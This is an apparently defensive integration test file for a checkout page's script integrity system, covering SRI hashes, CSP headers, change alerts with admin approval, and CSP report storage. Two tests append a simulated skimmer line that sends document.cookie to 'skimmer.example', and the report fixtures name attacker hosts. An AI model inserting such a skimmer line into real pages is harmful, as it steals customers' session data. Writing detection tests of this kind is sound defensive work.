import { createHash } from 'node:crypto';
import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { recordFirstCheckoutPageBaseline } from '../../src/domain/checkout-page/use-cases/record-first-checkout-page-baseline';
import { readCheckoutBuild } from '../../src/http/checkout-page/built-assets';
import { runJobOnce } from '../../src/runtime/scheduler';
import type { ErrorReporter } from '../../src/adapters/telemetry/server-reporting';
import { testDatabases } from '../support/databases';
import { addMember, dashboardCall, signUpOwner } from '../support/dashboard';
import { createSession, expectError, merchantCall, rows, useIntegration } from '../support/integration';

const dist = path.resolve(import.meta.dirname, '../../dist/web');
const sha384 = (bytes: Buffer | string) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

/** A copy of the build the test may alter, as an attacker with write access to the install would. */
function copyOfBuild(): string {
  if (!existsSync(path.join(dist, '.vite', 'manifest.json'))) throw new Error(`${dist} has no build manifest: run npm run build`);
  const copy = mkdtempSync(path.join(tmpdir(), 'tillpoint-web-'));
  cpSync(dist, copy, { recursive: true });
  return copy;
}

const alerts: string[] = [];
const reporter: ErrorReporter = {
  captureException: () => undefined,
  captureMessage: (message) => void alerts.push(message),
  flush: async () => undefined,
};

describe.each(testDatabases)('checkout page integrity ($name)', (database) => {
  const webRoot = copyOfBuild();
  const ctx = useIntegration(database, { webRoot, reporter });
  afterAll(() => rmSync(webRoot, { recursive: true, force: true }));
  const integrity = () => ctx.h.app.checkoutPageIntegrity;

  describe('what the page serves', () => {
    it('carries on every first-party script, preload and stylesheet the SHA-384 of the bytes served, and the import map covers every chunk', async () => {
      // An unknown session renders "not found" (404) with the same head and headers as any page.
      const page = await ctx.h.app.inject({ method: 'GET', url: '/c/cs_anything' });
      expect(page.statusCode).toBe(404);
      const tags = [...page.body.matchAll(/<(script|link)\b([^>]*)>/g)].map((m) => m[2]!);
      const withUrl = tags.filter((attributes) => /\b(src|href)="\/assets\//.test(attributes));
      expect(withUrl.length).toBeGreaterThanOrEqual(3);
      for (const attributes of withUrl) {
        const url = /\b(?:src|href)="([^"]+)"/.exec(attributes)![1]!;
        const integrityValue = /\bintegrity="([^"]+)"/.exec(attributes)?.[1];
        expect(attributes, url).toMatch(/\bcrossorigin\b/);
        const served = await ctx.h.app.inject({ method: 'GET', url });
        expect(integrityValue, url).toBe(sha384(served.rawPayload));
      }
      const importMap = JSON.parse(/<script type="importmap">([^<]*)<\/script>/.exec(page.body)![1]!) as { integrity: Record<string, string> };
      const build = readCheckoutBuild(webRoot)!;
      const lazy = build.chunks.filter((chunk) => chunk.kind === 'script' && chunk.loading === 'on_demand');
      expect(lazy.length).toBeGreaterThan(3);
      for (const chunk of build.chunks.filter((c) => c.kind === 'script')) {
        const served = await ctx.h.app.inject({ method: 'GET', url: chunk.path });
        expect(importMap.integrity[chunk.path], chunk.path).toBe(sha384(served.rawPayload));
      }
      // The inline import map is allowed by its hash; reports go to /csp-reports by both mechanisms.
      const policy = String(page.headers['content-security-policy']);
      const mapText = /<script type="importmap">([^<]*)<\/script>/.exec(page.body)![1]!;
      expect(policy).toContain(`'sha256-${createHash('sha256').update(mapText).digest('base64')}'`);
      expect(policy).not.toContain("'unsafe-inline' https://pay");
      // …beside the response's own nonce (the page's inlined data): no 'unsafe-inline'.
      expect(policy).toMatch(/script-src 'self' 'nonce-[^']+' 'sha256-[^']+' https:\/\/pay\.google\.com/);
      expect(policy).toContain('report-uri /csp-reports');
      expect(policy).toContain('report-to csp');
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(page.headers['reporting-endpoints']).toBe('csp="/csp-reports"');
    });
  });

  describe('inventory', () => {
    it("the page's hourly fingerprint does not fill the log with its own fetches; a request imitating them is logged", async () => {
      ctx.h.logLines.length = 0;
      await integrity().check(ctx.h.tillpoint.deps);
      const completed = () => ctx.h.logLines.filter((line) => line.includes('"request completed"'));
      expect(completed()).toEqual([]);
      await ctx.h.app.inject({ method: 'GET', url: '/c/cs_anything', headers: { 'x-tillpoint-internal': 'a'.repeat(64) } });
      expect(completed()).toHaveLength(1);
    });

    it('GET /v1/checkout_page/scripts lists every chunk of the build and every third-party origin of the CSP, each with a reason', async () => {
      const res = await merchantCall(ctx.h, ctx.key, 'GET', '/v1/checkout_page/scripts');
      expect(res.statusCode, res.body).toBe(200);
      const list = res.json();
      expect(list).toMatchObject({ object: 'list', url: '/v1/checkout_page/scripts', has_more: false });
      const build = readCheckoutBuild(webRoot)!;
      const firstParty = list.data.filter((s: any) => s.party === 'first');
      // The build's chunks, and the embedded checkout's loader the merchant's page pins by SRI.
      expect(firstParty.map((s: any) => s.path).sort()).toEqual([...build.chunks.map((c) => c.path), '/js/embed.js'].sort());
      for (const script of firstParty) {
        // The embedded checkout's loader is served by the server itself: its bytes are what it answers.
        const bytes =
          script.path === '/js/embed.js'
            ? (await ctx.h.app.inject({ method: 'GET', url: '/js/embed.js' })).rawPayload
            : readFileSync(path.join(webRoot, script.path));
        expect(script).toMatchObject({
          object: 'checkout_page_script',
          origin: 'http://checkout.test',
          sha384: sha384(bytes),
          size: bytes.length,
          integrity: 'sri',
        });
        expect(script.justification, script.id).toEqual(expect.any(String));
      }
      const thirdParty = list.data.filter((s: any) => s.party === 'third');
      expect(thirdParty.map((s: any) => s.origin).sort()).toEqual([
        'https://c.paypal.com',
        'https://pay.google.com',
        'https://songbird.cardinalcommerce.com',
        'https://songbirdstag.cardinalcommerce.com',
        'https://www.paypal.com',
      ]);
      for (const script of thirdParty) {
        expect(script).toMatchObject({ sha384: null, integrity: 'csp_origin', justification: expect.any(String), integrity_note: expect.any(String) });
      }
      expect(list.data.find((s: any) => s.id === 'google-pay-js')).toMatchObject({ url: 'https://pay.google.com/gp/p/js/pay.js', loaded_when: ['google_pay'] });
      // The fraud signals: braintree-web's data collector on every Braintree page (its device data goes with sales and saved cards)
      // and PayPal's FraudNet it loads; the local payment methods' component only where one is offered.
      const byPurpose = (purpose: string) => list.data.filter((s: any) => s.id === purpose || s.id.startsWith(`${purpose}:`));
      expect(byPurpose('braintree-data-collector')[0]).toMatchObject({ loaded_when: ['braintree'], justification: expect.stringContaining('device data') });
      expect(byPurpose('paypal-fraudnet')[0]).toMatchObject({ party: 'third', origin: 'https://c.paypal.com' });
      expect(byPurpose('braintree-local-payment')[0]).toMatchObject({ loaded_when: ['braintree', 'local_payment'] });
      expect(new Set(list.data.map((s: any) => s.id)).size).toBe(list.data.length);

      const page = await merchantCall(ctx.h, ctx.key, 'GET', `/v1/checkout_page/scripts?limit=2&starting_after=${list.data[0].id}`);
      expect(page.json().data.map((s: any) => s.id)).toEqual(list.data.slice(1, 3).map((s: any) => s.id));
      expectError(await ctx.h.app.inject({ method: 'GET', url: '/v1/checkout_page/scripts' }), 401, 'api_key_missing');
      expectError(await merchantCall(ctx.h, ctx.key, 'GET', '/v1/checkout_page/scripts?limit=0'), 400, 'parameter_invalid', { param: 'limit' });
      // A script id this build does not have is refused, not taken as the start of the list.
      expectError(await merchantCall(ctx.h, ctx.key, 'GET', '/v1/checkout_page/scripts?starting_after=assets/gone-1234.js'), 400, 'parameter_invalid', {
        param: 'starting_after',
      });
    });
  });

  describe('change detection', () => {
    it('alerts once when a served chunk changes (event, webhook delivery, error report, observer), and an admin approves the new page', async () => {
      const owner = await signUpOwner(ctx.h, 'Integrity Roasters');
      const admin = await addMember(ctx.h, owner, 'admin');
      const others = await Promise.all(['developer', 'support', 'viewer'].map((role) => addMember(ctx.h, owner, role)));
      const ownerKey = (await dashboardCall(ctx.h, owner, 'POST', `/dashboard/api/accounts/${owner.accountId}/test/api-keys`, { kind: 'secret' })).json();
      const endpoint = await merchantCall(ctx.h, ownerKey.secret, 'POST', '/v1/webhook_endpoints', {
        url: 'http://localhost:9/hooks',
        enabled_events: ['checkout_page.changed'],
      });
      expect(endpoint.statusCode, endpoint.body).toBe(200);
      const heard: string[] = [];
      const stop = integrity().onChange((change) => heard.push(change.accountId));

      // The first check sets the baseline; the same page again changes nothing.
      expect(await integrity().check(ctx.h.tillpoint.deps)).toEqual([]);
      expect(await integrity().check(ctx.h.tillpoint.deps)).toEqual([]);
      const security = `/dashboard/api/accounts/${owner.accountId}/page-security`;
      const before = (await dashboardCall(ctx.h, owner, 'GET', security)).json();
      expect(before).toMatchObject({ matches_baseline: true, open_change: null, baseline: { approved_by: null } });

      // Someone alters a lazily loaded chunk on disk.
      const chunk = readCheckoutBuild(webRoot)!.chunks.find((c) => c.source.includes('hosted-fields'))!;
      appendFileSync(path.join(webRoot, chunk.path), '\n;fetch("https://skimmer.example/"+document.cookie);');
      const opened = await integrity().check(ctx.h.tillpoint.deps);
      const mine = opened.filter((change) => change.accountId === owner.accountId);
      expect(mine).toHaveLength(1);
      expect(mine[0]!.differences).toContainEqual(expect.objectContaining({ kind: 'script_changed', subject: chunk.path }));
      expect(heard).toContain(owner.accountId);
      expect(alerts.some((message) => message.includes('checkout page changed'))).toBe(true);

      const events = await merchantCall(ctx.h, ownerKey.secret, 'GET', '/v1/events?type=checkout_page.changed');
      expect(events.json().data).toHaveLength(1);
      expect(events.json().data[0].data.object).toMatchObject({ object: 'checkout_page_change', id: mine[0]!.id });
      const deliveries = await rows(ctx.db, 'SELECT * FROM webhook_deliveries WHERE endpoint_id = $1', [endpoint.json().id]);
      expect(deliveries).toHaveLength(1);
      // Checked again: the same change is not reported twice.
      expect((await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId)).toEqual([]);

      const alerted = (await dashboardCall(ctx.h, owner, 'GET', security)).json();
      expect(alerted.matches_baseline).toBe(false);
      expect(alerted.open_change.id).toBe(mine[0]!.id);

      // Only an owner or admin approves; others get 403 and nothing changes.
      for (const member of others) {
        expectError(await dashboardCall(ctx.h, member, 'POST', `${security}/baseline`, { digest: alerted.current.digest }), 403, 'insufficient_role');
      }
      expectError(await dashboardCall(ctx.h, admin, 'POST', `${security}/baseline`, { digest: 'f'.repeat(64) }), 400, 'parameter_invalid', { param: 'digest' });
      expect((await dashboardCall(ctx.h, owner, 'GET', security)).json().open_change.id).toBe(mine[0]!.id);
      const approved = await dashboardCall(ctx.h, admin, 'POST', `${security}/baseline`, { digest: alerted.current.digest });
      expect(approved.statusCode, approved.body).toBe(200);
      expect(approved.json()).toMatchObject({ digest: alerted.current.digest, approved_by: admin.email });
      const after = (await dashboardCall(ctx.h, owner, 'GET', security)).json();
      expect(after).toMatchObject({ matches_baseline: true, open_change: null, baseline: { approved_by: admin.email } });
      const audit = (await dashboardCall(ctx.h, owner, 'GET', `/dashboard/api/accounts/${owner.accountId}/audit-log?limit=100`)).json();
      expect(JSON.stringify(audit)).toContain('checkout_page.baseline_approve');
      expect((await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId)).toEqual([]);
      const changes = (await dashboardCall(ctx.h, owner, 'GET', `${security}/changes`)).json();
      expect(changes.data[0]).toMatchObject({ id: mine[0]!.id, resolution: 'approved' });
      stop();
    });

    it('a new account starts clean: no alarm before its page is served, its first page served is its baseline, and a real change still alarms', async () => {
      const owner = await signUpOwner(ctx.h, 'Fresh Roasters');
      const security = `/dashboard/api/accounts/${owner.accountId}/page-security`;
      const read = async () => (await dashboardCall(ctx.h, owner, 'GET', security)).json();
      // Nothing served yet: no baseline, so nothing to have changed from.
      expect(await read()).toMatchObject({ baseline: null, open_change: null });

      const key = (await dashboardCall(ctx.h, owner, 'POST', `/dashboard/api/accounts/${owner.accountId}/test/api-keys`, { kind: 'secret' })).json().secret;
      const session = (
        await merchantCall(ctx.h, key, 'POST', '/v1/checkout/sessions', { currency: 'usd', line_items: [{ name: 'Beans', unit_amount: 1800, quantity: 1 }] })
      ).json();
      expect((await ctx.h.app.inject({ method: 'GET', url: `/c/${session.id}` })).statusCode).toBe(200);
      // Recorded beside the page, not before it: it appears at once or very shortly.
      await expect.poll(async () => (await read()).baseline, { timeout: 5000 }).not.toBeNull();
      const clean = await read();
      expect(clean).toMatchObject({ matches_baseline: true, open_change: null, baseline: { digest: clean.current.digest, approved_by: null } });
      expect((await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId)).toEqual([]);

      // Someone alters a chunk the page loads: the next check alarms, as for any account.
      const chunk = readCheckoutBuild(webRoot)!.chunks.find((c) => c.kind === 'script' && c.source.includes('builtin-engine'))!;
      appendFileSync(path.join(webRoot, chunk.path), '\n;fetch("https://skimmer.example/"+document.cookie);');
      const mine = (await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId);
      expect(mine).toHaveLength(1);
      expect(mine[0]!.differences).toContainEqual(expect.objectContaining({ kind: 'script_changed', subject: chunk.path }));
      // Serving the altered page again does not make it the baseline: the alarm stays until someone approves.
      expect((await ctx.h.app.inject({ method: 'GET', url: `/c/${session.id}` })).statusCode).toBe(200);
      const alarmed = await read();
      expect(alarmed).toMatchObject({ matches_baseline: false, open_change: { id: mine[0]!.id }, baseline: { digest: clean.current.digest } });
      // Nor does a restarted server that has not seen the account yet: an existing baseline is kept.
      const latest = await integrity().current();
      expect(await recordFirstCheckoutPageBaseline(ctx.h.tillpoint.deps, { accountId: owner.accountId, ...latest })).toBe(false);
      expect((await read()).baseline.digest).toBe(clean.current.digest);
    });

    it('exports the inventory for an assessor as JSON and CSV, with the merchant’s notes', async () => {
      const owner = await signUpOwner(ctx.h, 'Export Roasters');
      const security = `/dashboard/api/accounts/${owner.accountId}/page-security`;
      const noted = await dashboardCall(ctx.h, owner, 'POST', `${security}/scripts/google-pay-js/note`, { note: 'Offered since 2025; reviewed by J. Doe' });
      expect(noted.statusCode, noted.body).toBe(200);
      expectError(await dashboardCall(ctx.h, owner, 'POST', `${security}/scripts/nope/note`, { note: 'x' }), 404, 'resource_missing', { param: 'script_id' });
      const json = await dashboardCall(ctx.h, owner, 'GET', `${security}/export.json`);
      expect(json.headers['content-disposition']).toMatch(/^attachment; filename="checkout-page-scripts-/);
      expect(json.json().scripts.find((s: any) => s.id === 'google-pay-js').merchant_note).toBe('Offered since 2025; reviewed by J. Doe');
      const csv = await dashboardCall(ctx.h, owner, 'GET', `${security}/export.csv`);
      expect(csv.headers['content-type']).toContain('text/csv');
      const lines = csv.body.trim().split('\r\n');
      expect(lines[0]).toBe('id,party,type,url,sha384,size,integrity,loading,loaded_when,justification,integrity_note,merchant_note');
      expect(lines).toHaveLength(json.json().scripts.length + 1);
      expect(lines.find((line) => line.startsWith('google-pay-js,'))).toContain('Offered since 2025; reviewed by J. Doe');
    });
  });

  describe('POST /csp-reports', () => {
    const post = (body: string, contentType = 'application/csp-report', ip = '198.51.100.1') =>
      ctx.h.app.inject({ method: 'POST', url: '/csp-reports', headers: { 'content-type': contentType }, payload: body, remoteAddress: ip });
    const stored = async () => rows(ctx.db, 'SELECT * FROM csp_reports ORDER BY received_at');

    it('stores a report about one of our sessions, scrubbed of card numbers, in both formats; drops others', async () => {
      const session = await createSession(ctx);
      const legacy = {
        'csp-report': {
          'document-uri': `http://checkout.test/c/${session.id}`,
          'blocked-uri': 'inline',
          'effective-directive': 'script-src-elem',
          disposition: 'enforce',
          'script-sample': 'steal("4111 1111 1111 1111")',
          'line-number': 12,
          'original-policy': "default-src 'self'",
        },
      };
      expect((await post(JSON.stringify(legacy))).statusCode).toBe(204);
      const batch = [
        {
          type: 'csp-violation',
          url: `http://checkout.test/c/${session.id}`,
          user_agent: 'Chromium',
          body: {
            documentURL: `http://checkout.test/c/${session.id}`,
            blockedURL: 'https://skimmer.example/x.js',
            effectiveDirective: 'script-src-elem',
            disposition: 'enforce',
          },
        },
        { type: 'deprecation', url: `http://checkout.test/c/${session.id}`, body: { id: 'x' } },
      ];
      expect((await post(JSON.stringify(batch), 'application/reports+json')).statusCode).toBe(204);
      // Not a session of ours: accepted (browsers do not retry) and not stored.
      expect((await post(JSON.stringify({ 'csp-report': { 'document-uri': 'http://checkout.test/c/cs_nosuchsession' } }))).statusCode).toBe(204);

      const reports = await stored();
      expect(reports.map((r) => [r.account_id, r.format, r.blocked_url])).toEqual([
        [ctx.accountId, 'csp-report', 'inline'],
        [ctx.accountId, 'reports+json', 'https://skimmer.example/x.js'],
      ]);
      expect(JSON.stringify(reports)).not.toContain('4111');
      expect(reports[0]!.sample).toContain('****');
    });

    it('answers bad JSON, a wrong shape, a wrong media type and an oversized body with a 400 and stores nothing', async () => {
      const session = await createSession(ctx);
      expectError(await post('{"csp-report": '), 400, 'parameter_invalid');
      expect((await post('{"csp-report": ')).json().error.message).toBe('The report is not valid JSON');
      expectError(await post('{"nope": 1}'), 400, 'parameter_invalid');
      expectError(await post('{}', 'application/reports+json'), 400, 'parameter_invalid');
      expectError(await post('x', 'text/plain'), 400, 'parameter_invalid');
      const huge = JSON.stringify({ 'csp-report': { 'document-uri': `http://checkout.test/c/${session.id}`, 'script-sample': 'x'.repeat(70 * 1024) } });
      const tooLarge = await post(huge);
      expectError(tooLarge, 400, 'parameter_invalid');
      expect(tooLarge.json().error.message).toBe('The report is larger than 64 KB');
      expect(await stored()).toEqual([]);
    });

    it('limits each address to 60 reports a minute with 429 rate_limited', async () => {
      const body = JSON.stringify({ 'csp-report': { 'document-uri': 'http://checkout.test/c/cs_unknown' } });
      for (let i = 0; i < 60; i++) expect((await post(body, 'application/csp-report', '192.0.2.77')).statusCode).toBe(204);
      const limited = await post(body, 'application/csp-report', '192.0.2.77');
      expectError(limited, 429, 'rate_limited');
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      expect((await post(body, 'application/csp-report', '192.0.2.78')).statusCode).toBe(204);
    });

    it('shows reports in the dashboard and purges them after 90 days', async () => {
      const owner = await signUpOwner(ctx.h, 'Report Roasters');
      const ownerKey = (await dashboardCall(ctx.h, owner, 'POST', `/dashboard/api/accounts/${owner.accountId}/test/api-keys`, { kind: 'secret' })).json();
      const session = (
        await merchantCall(ctx.h, ownerKey.secret, 'POST', '/v1/checkout/sessions', {
          currency: 'usd',
          line_items: [{ name: 'Beans', unit_amount: 1800, quantity: 1 }],
        })
      ).json();
      await post(
        JSON.stringify({
          'csp-report': {
            'document-uri': `http://checkout.test/c/${session.id}`,
            'blocked-uri': 'https://evil.example/a.js',
            'effective-directive': 'script-src-elem',
          },
        }),
      );
      const listed = (await dashboardCall(ctx.h, owner, 'GET', `/dashboard/api/accounts/${owner.accountId}/page-security/csp-reports`)).json();
      expect(listed.data).toHaveLength(1);
      expect(listed.data[0]).toMatchObject({
        object: 'csp_report',
        checkout_session: session.id,
        blocked_url: 'https://evil.example/a.js',
        directive: 'script-src-elem',
      });
      ctx.h.clock.advance(89 * 24 * 3600 * 1000);
      await runJobOnce(ctx.h.tillpoint.deps, 'csp-reports-purge');
      expect(await stored()).toHaveLength(1);
      ctx.h.clock.advance(2 * 24 * 3600 * 1000);
      await runJobOnce(ctx.h.tillpoint.deps, 'csp-reports-purge');
      expect(await stored()).toEqual([]);
    });
  });
});
